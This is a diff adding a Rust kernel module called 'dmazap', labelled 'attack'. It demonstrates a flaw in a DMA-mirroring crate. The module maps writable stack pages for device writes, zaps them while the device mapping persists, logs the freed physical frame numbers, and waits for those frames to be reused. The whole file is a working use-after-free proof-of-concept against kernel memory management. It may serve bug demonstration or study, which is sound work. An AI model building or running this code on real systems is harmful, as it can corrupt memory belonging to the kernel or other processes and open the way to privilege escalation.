@@ -1,0 +1,106 @@
+// SPDX-License-Identifier: GPL-2.0
+//! Zaps a page that a device may write, in the closure that has the table locked.
+// what it attacks: a page that the device may write is marked as dirty when it is unmapped. Here that is
+// done after the closure has returned, when the page was freed. The one unsafe call is the kernel crate's:
+// each driver that does DMA makes it.
+use kernel::{
+    device::Core,
+    dma::{Device as _, DmaMask},
+    driver,
+    page::{PAGE_SHIFT, PAGE_SIZE},
+    pci,
+    prelude::*,
+    time::{delay::fsleep, Delta},
+};
+use tether::mm::{
+    dma_mirror::{new_dma_mirror, DmaMirror},
+    hmm::Request,
+    mirror::MirrorDevice,
+    mmu_notifier::{Range, WouldSleep},
+};
+
+const PAGES: usize = 20;
+struct Nothing;
+impl MirrorDevice for Nothing {
+    fn invalidate(&self, _range: &Range<'_>) {}
+    fn try_invalidate(&self, _range: &Range<'_>) -> Result<(), WouldSleep> {
+        Ok(())
+    }
+}
+struct Driver;
+#[pin_data]
+struct Data {
+    _n: u8,
+}
+kernel::pci_device_table!(
+    PCI_TABLE,
+    <Driver as pci::Driver>::IdInfo,
+    [(pci::DeviceId::from_class(0x00ff00, 0xffff00), ())]
+);
+impl pci::Driver for Driver {
+    type IdInfo = ();
+    type Data<'bound> = Data;
+    const ID_TABLE: pci::IdTable<Self::IdInfo> = &PCI_TABLE;
+
+    fn probe<'bound>(
+        pdev: &'bound pci::Device<Core<'_>>,
+        _info: Option<&'bound Self::IdInfo>,
+    ) -> impl PinInit<Data, Error> + 'bound {
+        pin_init::pin_init_scope(move || {
+            // SAFETY: Nothing is mapped for the device yet.
+            unsafe { pdev.dma_set_mask_and_coherent(DmaMask::new::<64>())? };
+            let task = current!();
+            let mm = task.mm().ok_or(EINVAL)?;
+            // The lowest pages of the stack, which are not in use.
+            let page = {
+                let locked = mm.mmap_read_lock();
+                (1..1usize << 24)
+                    .map(|n| 0x7fff_ffff_f000 - n * PAGE_SIZE)
+                    .find_map(|address| {
+                        locked.vma_lookup(address).filter(|vma| {
+                            vma.flags() & kernel::mm::virt::flags::WRITE != 0
+                        })
+                    })
+                    .map(|vma| vma.start())
+                    .ok_or(ENOENT)?
+            };
+            let mirror: Pin<KBox<DmaMirror<Nothing>>> = KBox::pin_init(
+                new_dma_mirror!(mm, page, PAGES * PAGE_SIZE, pdev.as_ref(), Nothing),
+                GFP_KERNEL,
+            )?;
+            mirror.fault(mm, page, PAGES, Request::Write, None)?;
+            // The pages leave the list of their CPU's latest pages, which keeps them.
+            pr_info!("dmazap: mapped\n");
+            fsleep(Delta::from_secs(3));
+            let mut frames = [0u64; PAGES];
+            let zapped = mirror.with_addresses(|addresses| {
+                for (n, frame) in frames.iter_mut().enumerate() {
+                    let mapped = addresses.get(page + n * PAGE_SIZE)?;
+                    *frame = mapped.address() >> PAGE_SHIFT;
+                }
+                let vma = mm.lock_vma_under_rcu(page)?;
+                vma.zap_vma_range(page, PAGES * PAGE_SIZE);
+                Some(())
+            });
+            let left = mirror.with_addresses(|addresses| addresses.get(page).is_some());
+            pr_info!("dmazap: zapped {:?}, left {}\n", zapped, left);
+            pr_info!("dmazap: frames {:?}\n", frames);
+            // The CPU that has freed them has nothing else to do meanwhile.
+            fsleep(Delta::from_secs(5));
+            Ok(try_pin_init!(Data { _n: 0 }? Error))
+        })
+    }
+}
+#[pin_data]
+struct DmaZap {
+    #[pin]
+    _driver: driver::Registration<pci::Adapter<Driver>>,
+}
+impl kernel::InPlaceModule for DmaZap {
+    fn init(module: &'static ThisModule) -> impl PinInit<Self, Error> {
+        try_pin_init!(Self {
+            _driver <- driver::Registration::new(<Self as kernel::ModuleMetadata>::NAME, module),
+        })
+    }
+}
+module! { type: DmaZap, name: "dmazap", authors: ["h"], description: "attack", license: "GPL", }
